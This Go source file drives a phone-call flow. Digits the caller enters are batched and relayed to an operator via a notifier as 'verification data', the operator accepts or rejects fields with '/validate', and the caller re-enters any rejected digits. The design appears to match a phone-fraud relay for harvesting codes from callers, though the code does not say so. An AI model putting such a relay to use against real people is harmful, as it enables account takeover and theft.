package flow

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"github.com/MillerSebastian/telegram-call/internal/session"
)

// Notifier delivers human-readable messages about a call to the operator
// channel. Delivery is best-effort; implementations must not return errors
// into the call flow.
type Notifier interface {
	NotifySession(ctx context.Context, sess session.Session, text string)
}

var (
	ErrUnknownField = errors.New("flow: unknown field")
	ErrUnknownStage = errors.New("flow: unknown stage")
)

// Engine drives the collect → await-decision → resolve sequence for every
// call. It holds no per-call state of its own; everything lives in the
// session store so any webhook worker can pick up any call.
type Engine struct {
	cfg      Config
	store    *session.Store
	notifier Notifier
	log      *slog.Logger
}

func NewEngine(cfg Config, store *session.Store, notifier Notifier, log *slog.Logger) *Engine {
	if log == nil {
		log = slog.Default()
	}
	return &Engine{cfg: cfg, store: store, notifier: notifier, log: log}
}

func (e *Engine) Config() Config { return e.cfg }

// SaveResult tells the webhook layer what to render after digits landed.
type SaveResult struct {
	Digits string

	// PauseSeconds is a fixed no-op delay before continuing (step nicety).
	PauseSeconds int

	// Next is the following collection step, when the batch is incomplete.
	Next *Step

	// AwaitStage is set when the batch is complete and the flow moves to
	// the decision wait loop.
	AwaitStage string

	// Revalidation marks a save that re-entered a previously rejected field.
	Revalidation bool
}

// SaveDigits records collected digits for a field and advances the flow.
// Recording a field discards any pending decision for its batch: a decision
// vector is void the instant a datum it covered changes.
func (e *Engine) SaveDigits(ctx context.Context, callID, field, digits string) (SaveResult, error) {
	batch, step, idx, ok := e.cfg.StepByField(field)
	if !ok {
		return SaveResult{}, fmt.Errorf("%w: %q", ErrUnknownField, field)
	}

	var (
		revalidation bool
		complete     bool
		snapshot     session.Session
	)
	snapshot = e.store.Update(ctx, callID, func(s *session.Session) {
		revalidation = s.CorrectionInProgress && s.CorrectionField == field
		if _, pending := s.Decision(batch.Stage); pending {
			revalidation = true
		}
		s.SetField(field, digits)
		complete = batch.Complete(s.Fields)
	})

	res := SaveResult{Digits: digits, Revalidation: revalidation}
	if step.PauseOnLength > 0 && len(digits) == step.PauseOnLength {
		res.PauseSeconds = step.PauseLengthSeconds
	}

	if complete {
		res.AwaitStage = batch.Stage
		e.requestDecision(ctx, snapshot, batch, revalidation)
		return res, nil
	}
	if next, ok := batch.nextStep(idx); ok {
		res.Next = &next
		return res, nil
	}
	// Batch incomplete but no later step: an earlier field is missing,
	// re-enter the batch from its first missing step.
	for _, st := range batch.Steps {
		if snapshot.Fields[st.Field] == "" {
			st := st
			res.Next = &st
			break
		}
	}
	return res, nil
}

// PollOutcome is one turn of the await-decision protocol.
type PollOutcome int

const (
	// OutcomeWaiting re-arms the wait loop with a rotating message.
	OutcomeWaiting PollOutcome = iota
	// OutcomeAccepted is the terminal success state for the batch.
	OutcomeAccepted
	// OutcomeCorrect sends the caller back to re-enter one rejected field.
	OutcomeCorrect
	// OutcomeAbortedNoDecision ends the call after the retry budget ran out.
	OutcomeAbortedNoDecision
	// OutcomeAbortedCorrections ends the call after too many re-rejections.
	OutcomeAbortedCorrections
)

// PollResult tells the webhook layer what to render for one poll.
type PollResult struct {
	Outcome PollOutcome

	// WaitIndex selects one of the rotating wait announcements.
	WaitIndex   int
	WaitSeconds int

	// CorrectStep is set for OutcomeCorrect.
	CorrectStep Step
}

// Poll runs one cycle of the await-decision wait protocol for a stage.
// Each call is a fresh short-lived unit of work: it checks state under the
// store lock and either resolves or re-arms, so other calls proceed freely
// while this one waits.
func (e *Engine) Poll(ctx context.Context, callID, stage string) (PollResult, error) {
	batch, ok := e.cfg.BatchByStage(stage)
	if !ok {
		return PollResult{}, fmt.Errorf("%w: %q", ErrUnknownStage, stage)
	}

	var res PollResult
	e.store.Update(ctx, callID, func(s *session.Session) {
		marks, present := s.Decision(stage)
		if present {
			res = e.resolveDecision(s, batch, marks)
			return
		}

		count := s.BumpRetry(stage) + 1
		if count > e.cfg.RetryLimit {
			res = PollResult{Outcome: OutcomeAbortedNoDecision}
			return
		}
		res = PollResult{
			Outcome:     OutcomeWaiting,
			WaitIndex:   (count - 1) % 3,
			WaitSeconds: e.cfg.WaitSeconds,
		}
	})

	switch res.Outcome {
	case OutcomeAccepted:
		e.log.Info("decision accepted", "call_id", callID, "stage", stage)
	case OutcomeCorrect:
		e.log.Info("field rejected, re-collecting", "call_id", callID, "stage", stage, "field", res.CorrectStep.Field)
	case OutcomeAbortedNoDecision:
		e.log.Warn("no decision received, aborting", "call_id", callID, "stage", stage)
	case OutcomeAbortedCorrections:
		e.log.Warn("correction budget exhausted, aborting", "call_id", callID, "stage", stage)
	}
	return res, nil
}

// HasDecision reports whether a decision is already waiting for the stage,
// letting the waiting announcement skip straight to resolution.
func (e *Engine) HasDecision(callID, stage string) bool {
	sess, ok := e.store.Get(callID)
	if !ok {
		return false
	}
	_, present := sess.Decision(stage)
	return present
}

// resolveDecision consumes a decision vector. Runs under the store lock.
//
// Only the first rejected field is surfaced per cycle even when several are
// rejected; later rejections stay silent until the next validation round.
// Longstanding documented behavior, kept as-is.
func (e *Engine) resolveDecision(s *session.Session, batch Batch, marks []int) PollResult {
	s.ClearDecision(batch.Stage)

	rejected := -1
	for i := range batch.Steps {
		if i < len(marks) && marks[i] != 1 {
			rejected = i
			break
		}
	}

	if rejected < 0 {
		s.ResetStage(batch.Stage)
		return PollResult{Outcome: OutcomeAccepted}
	}

	if s.CorrectionCounts[batch.Stage] >= e.cfg.CorrectionLimit {
		return PollResult{Outcome: OutcomeAbortedCorrections}
	}
	s.BumpCorrection(batch.Stage)
	step := batch.Steps[rejected]
	s.CorrectionInProgress = true
	s.CorrectionField = step.Field
	// The retry budget covers one wait episode; a fresh episode follows the
	// correction.
	delete(s.RetryCounts, batch.Stage)

	return PollResult{Outcome: OutcomeCorrect, CorrectStep: step}
}

// requestDecision notifies the operator that a batch is ready to judge.
func (e *Engine) requestDecision(ctx context.Context, sess session.Session, batch Batch, revalidation bool) {
	if e.notifier == nil {
		return
	}

	var b strings.Builder
	if revalidation {
		b.WriteString("🔄 Updated verification data:\n")
	} else {
		b.WriteString("📞 New verification:\n")
	}
	for _, st := range batch.Steps {
		v := sess.Fields[st.Field]
		if v == "" {
			v = "N/A"
		}
		fmt.Fprintf(&b, "🔢 %s: %s (%d digits)\n", st.Field, v, len(v))
	}
	example := strings.TrimSpace(strings.Repeat("1 ", batch.Width()))
	fmt.Fprintf(&b, "\nReply with:\n/validate %s %s (all correct)", sess.CallID, example)
	if batch.Width() >= 2 {
		reject := make([]string, batch.Width())
		for i := range reject {
			reject[i] = "1"
		}
		reject[1] = "0"
		fmt.Fprintf(&b, "\n/validate %s %s (second incorrect)", sess.CallID, strings.Join(reject, " "))
	}

	e.notifier.NotifySession(ctx, sess, b.String())
}
